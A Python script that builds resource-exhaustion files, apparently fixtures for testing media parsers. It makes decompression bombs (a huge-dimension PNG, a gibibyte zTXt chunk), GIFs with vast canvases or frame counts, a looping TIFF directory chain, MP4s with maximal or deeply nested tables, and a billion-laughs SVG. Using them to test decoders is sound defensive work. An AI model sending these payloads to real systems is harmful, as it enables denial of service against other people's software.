"""Writes small files that unpack to far more than a machine should give them: python3 bombs.py FOLDER."""

import struct
import sys
import zlib
from pathlib import Path

FOLDER = Path(sys.argv[1])


def write(name, *parts):
    (FOLDER / name).write_bytes(b"".join(parts))


# --- deflate -------------------------------------------------------------------------------------------------------

def packed_zeros(count):
    """A zlib stream of so many zeros. One block of a mebibyte is made once and repeated: it ends on a whole byte."""
    block = 1 << 20
    whole, rest = divmod(count, block)
    squeezer = zlib.compressobj(9, zlib.DEFLATED, -15)
    # The first block may not lean on what came before it, so that any number of copies fits together.
    piece = squeezer.compress(bytes(block)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = last.compress(bytes(rest)) + last.flush()
    # Adler-32 of zeros: the first sum stays 1, the second counts the bytes.
    return b"\x78\xda" + piece * whole + end + struct.pack(">HH", count % 65521, 1)


# --- PNG -----------------------------------------------------------------------------------------------------------

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(name, width, height, depth, color, *extra):
    channels = {0: 1, 2: 3, 6: 4}[color]
    row = 1 + (width * depth * channels + 7) // 8
    header = struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0)
    write(name, b"\x89PNG\r\n\x1a\n", chunk(b"IHDR", header), *extra, chunk(b"IDAT", packed_zeros(row * height)),
          chunk(b"IEND", b""))


# --- WebP ----------------------------------------------------------------------------------------------------------

def webp_lossless(name, width, height, size):
    """One colour all over: five prefix codes of one symbol each, so that no pixel takes a bit."""
    bits = [(width - 1, 14), (height - 1, 14), (0, 1), (0, 3), (0, 1), (0, 1), (0, 1)] + [(1, 4)] * 5
    value, count = 0, 0
    for number, width_of_number in bits:
        value |= number << count
        count += width_of_number
    data = b"\x2f" + value.to_bytes((count + 7) // 8, "little") + b"\0"
    data += bytes(size - len(data) - 20 & ~1)
    data += bytes(len(data) & 1)
    write(name, b"RIFF", struct.pack("<I", len(data) + 12), b"WEBPVP8L", struct.pack("<I", len(data)), data)


# --- GIF -----------------------------------------------------------------------------------------------------------

def gif(name, width, height, frames):
    frame = (b"\x21\xf9\x04\0\x0a\0\0\0" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
             + bytes([2, 2, 0x44, 1, 0]))
    write(name, b"GIF89a", struct.pack("<HHBBB", width, height, 0x80, 0, 0), bytes([0, 0, 0, 255, 255, 255]),
          frame * frames, b"\x3b")


# --- TIFF ----------------------------------------------------------------------------------------------------------

def tiff_loop(name):
    """Two directories that each name the other as the next."""
    def directory(following):
        entries = [(256, 3, 1), (257, 3, 1), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 200), (277, 3, 1), (278, 3, 1),
                   (279, 4, 1)]
        return (struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", tag, kind, 1, value)
                                                           for tag, kind, value in entries)
                + struct.pack("<I", following))
    first = directory(0)
    second_at = 8 + len(first)
    body = directory(second_at) + directory(8)
    write(name, b"II*\0", struct.pack("<I", 8), body, bytes(300))


# --- ISO media -----------------------------------------------------------------------------------------------------

def box(kind, *parts):
    data = b"".join(parts)
    return struct.pack(">I", len(data) + 8) + kind + data


def full(kind, *parts):
    return box(kind, bytes(4), *parts)


MOST = 0xFFFFFFFF
MATRIX = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)


def mp4(name, *tables):
    entry = box(b"avc1", bytes(6), struct.pack(">H", 1), bytes(16), struct.pack(">HHIIIH", 64, 64, 0x480000, 0x480000, 0, 1),
                bytes(32), struct.pack(">HH", 24, 0xFFFF),
                box(b"avcC", bytes([1, 66, 0, 10, 0xFF, 0xE1, 0, 4, 0x67, 66, 0, 10, 1, 0, 2, 0x68, 0xCE])))
    media = box(
        b"mdia", full(b"mdhd", struct.pack(">IIIIHH", 0, 0, 1000, 1000, 0x55C4, 0)),
        full(b"hdlr", struct.pack(">I4s", 0, b"vide"), bytes(13)),
        box(b"minf", full(b"vmhd", bytes(8)), box(b"stbl", full(b"stsd", struct.pack(">I", 1), entry), *tables)))
    track = box(b"trak", full(b"tkhd", struct.pack(">5I", 0, 0, 1, 0, 1000), bytes(16), MATRIX,
                              struct.pack(">II", 64 << 16, 64 << 16)), media)
    write(name, box(b"ftyp", b"isom", bytes(4), b"isom"),
          box(b"moov", full(b"mvhd", struct.pack(">IIII", 0, 0, 1000, 1000), struct.pack(">IH", 0x10000, 0x100), bytes(10),
                            MATRIX, bytes(24), struct.pack(">I", 2)), track), box(b"mdat", bytes(1000)))


def deep_mp4(name, depth):
    data = b""
    for _ in range(depth):
        data = struct.pack(">I", len(data) + 8) + b"moov" + data
        if len(data) > 1_000_000:
            break
    write(name, box(b"ftyp", b"isom", bytes(4), b"isom"), data)


# --- SVG -----------------------------------------------------------------------------------------------------------

def laughing_svg(name):
    entities = "".join('<!ENTITY l%d "%s">' % (level, ("&l%d;" % (level - 1)) * 10) for level in range(1, 12))
    write(name, ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">%s]>'
                 '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&l11;</text></svg>' % entities).encode())


webp_lossless("wide.webp", 16383, 16383, 10_000)
png("wide.png", 30_000, 30_000, 8, 2)
png("text.png", 1, 1, 8, 0, chunk(b"zTXt", b"Comment\0\0" + packed_zeros(1 << 30)))
gif("frames.gif", 500, 500, 100_000)
gif("canvas.gif", 65535, 65535, 1000)
tiff_loop("loop.tiff")
COUNTS = [full(b"stts", struct.pack(">III", 1, MOST, 1)), full(b"stsc", struct.pack(">IIII", 1, 1, MOST, 1)),
          full(b"stsz", struct.pack(">II", 1, MOST)), full(b"stco", struct.pack(">II", 1, 40))]
mp4("samples.mp4", *COUNTS)
mp4("tables.mp4", *(full(kind, struct.pack(">I", MOST)) for kind in (b"stts", b"stsc", b"stco", b"stss", b"ctts")),
    full(b"stsz", struct.pack(">II", 0, MOST)))
mp4("chunks.mp4", full(b"stts", struct.pack(">I", 500_000) + struct.pack(">II", MOST, MOST) * 500_000), *COUNTS[1:])
deep_mp4("deep.mp4", 100_000)
laughing_svg("laughs.svg")
